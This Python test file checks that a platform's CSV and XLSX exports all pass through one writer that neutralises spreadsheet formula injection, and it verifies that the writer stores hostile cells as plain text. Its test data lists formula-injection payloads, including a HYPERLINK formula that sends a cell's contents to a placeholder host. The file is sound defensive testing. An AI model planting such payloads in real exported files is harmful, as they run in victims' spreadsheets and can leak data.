"""Every CSV and XLSX file the platform writes goes through `core/exporting.py`, whose
writers keep text that starts like a formula (`=`, `+`, `-`, `@`, tab, carriage
return) from running as one when the file is opened. A module that builds its own
`csv.writer`, its own openpyxl workbook or appends rows to a sheet itself would
bypass that, so it fails here (checked on the source, like test_house_rules.py)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from openpyxl import load_workbook

SRC = Path(__file__).resolve().parents[2] / "src" / "firstline"
WRITER = SRC / "core" / "exporting.py"

CSV_WRITERS = {"writer", "DictWriter"}
WORKBOOK_MAKERS = {"Workbook", "WriteOnlyCell"}
SPREADSHEET_PACKAGES = {"xlsxwriter", "pyexcel", "tablib", "pandas", "polars"}
# Reviewed exceptions: (file, package) and why.
ALLOWED_PACKAGES = {
    # polars only builds the column frame pyreadstat writes as SPSS .sav (not CSV/XLSX).
    ("surveys/services/spss.py", "polars"),
}


def _product_files() -> list[Path]:
    files = [
        p
        for p in SRC.rglob("*.py")
        if "migrations" not in p.parts and "tests" not in p.parts and p != WRITER
    ]
    assert len(files) > 100, "the walk must find the source"
    return files


def _sheet_names(tree: ast.AST) -> set[str]:
    """Names bound to a worksheet: `ws = wb.active`, `ws = wb.create_sheet(…)`."""
    names = set()
    for node in ast.walk(tree):
        if not isinstance(node, ast.Assign):
            continue
        value = node.value
        is_sheet = (isinstance(value, ast.Attribute) and value.attr == "active") or (
            isinstance(value, ast.Call)
            and isinstance(value.func, ast.Attribute)
            and value.func.attr == "create_sheet"
        )
        if is_sheet:
            names |= {t.id for t in node.targets if isinstance(t, ast.Name)}
    return names


def _offences_in(tree: ast.AST) -> list[tuple[int, str]]:
    found = []
    sheets = _sheet_names(tree)
    csv_aliases = {"csv"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                root = alias.name.split(".")[0]
                if root in SPREADSHEET_PACKAGES:
                    found.append((node.lineno, f"imports {alias.name}"))
                if alias.name == "csv" and alias.asname:
                    csv_aliases.add(alias.asname)
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if node.module == "csv" and names & CSV_WRITERS:
                found.append((node.lineno, "imports a csv writer"))
            if node.module.split(".")[0] == "openpyxl" and names & WORKBOOK_MAKERS:
                found.append((node.lineno, f"imports openpyxl's {sorted(names & WORKBOOK_MAKERS)}"))
            if node.module.split(".")[0] in SPREADSHEET_PACKAGES:
                found.append((node.lineno, f"imports {node.module}"))
        elif isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Attribute):
                owner = func.value.id if isinstance(func.value, ast.Name) else None
                if owner in csv_aliases and func.attr in CSV_WRITERS:
                    found.append((node.lineno, f"calls csv.{func.attr}"))
                elif func.attr in WORKBOOK_MAKERS:
                    found.append((node.lineno, f"calls {func.attr}"))
                elif owner in sheets and func.attr == "append":
                    found.append((node.lineno, f"appends to the sheet {owner} itself"))
                elif (
                    owner in sheets
                    and func.attr == "cell"
                    and any(k.arg == "value" for k in node.keywords)
                ):
                    found.append((node.lineno, f"writes a cell of {owner} itself"))
            elif isinstance(func, ast.Name) and func.id in WORKBOOK_MAKERS:
                found.append((node.lineno, f"calls {func.id}"))
    return found


def test_every_export_goes_through_core_exporting():
    offences = []
    for path in _product_files():
        tree = ast.parse(path.read_text(), filename=str(path))
        name = str(path.relative_to(SRC))
        offences += [
            f"{name}:{line}: {what}"
            for line, what in _offences_in(tree)
            if not any(
                (name, package) in ALLOWED_PACKAGES and what == f"imports {package}"
                for package in SPREADSHEET_PACKAGES
            )
        ]
    assert offences == [], "write CSV/XLSX through firstline.core.exporting"


def test_the_check_catches_the_ways_round_it():
    source = """
import csv
import csv as c
from openpyxl import Workbook
import openpyxl

def export(rows, out):
    csv.writer(out).writerows(rows)
    c.DictWriter(out, fieldnames=[])
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append(["=1+1"])
    first = wb.active
    first.cell(row=1, column=1, value="=1+1")
    items = []
    items.append(1)  # a list is not a sheet
"""
    found = [what for _line, what in _offences_in(ast.parse(source))]
    assert found.count("calls csv.writer") == 1
    assert "calls csv.DictWriter" in found
    assert "calls Workbook" in found
    assert "appends to the sheet ws itself" in found
    assert "writes a cell of first itself" in found
    assert any(w.startswith("imports openpyxl's") for w in found)
    assert len(found) == 6


# --- the writer itself: text stays text, numbers stay numbers -----------------------------

DANGEROUS = [
    '=HYPERLINK("http://x"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_xlsx_cells_are_text_never_formulas():
    from firstline.core import exporting

    out = io.BytesIO()
    exporting.xlsx_write(
        [[*DANGEROUS, -5, 3.5, "普通"]],
        out,
        sheet="s",
        header=["h"] * 9,
        preamble=[["=title"]],
    )
    out.seek(0)
    ws = load_workbook(out).active
    assert ws["A1"].data_type == "s" and ws["A1"].value == "=title"
    row = next(iter(ws.iter_rows(min_row=3, max_row=3)))
    for cell, value in zip(row, DANGEROUS, strict=False):
        assert cell.data_type == "s", value
        # Unchanged (XML reads a carriage return as a line feed): the type, not the
        # text, makes it safe.
        assert cell.value == value.replace("\r", "\n")
        assert cell.quotePrefix, value
    assert (row[6].value, row[6].data_type) == (-5, "n")
    assert (row[7].value, row[7].data_type) == (3.5, "n")
    assert (row[8].value, row[8].quotePrefix) == ("普通", False)


def test_csv_text_is_quoted_numbers_are_not():
    from firstline.core import exporting

    out = io.BytesIO()
    exporting.csv_write(["h"], [[*DANGEROUS, -5, "普通", "'already"]], out)
    streamed = b"".join(exporting.csv_stream(["h"], [[*DANGEROUS, -5, "普通", "'already"]]))
    for raw in (out.getvalue(), streamed):
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert rows[1] == [*(f"'{v}" for v in DANGEROUS), "-5", "普通", "'already"]
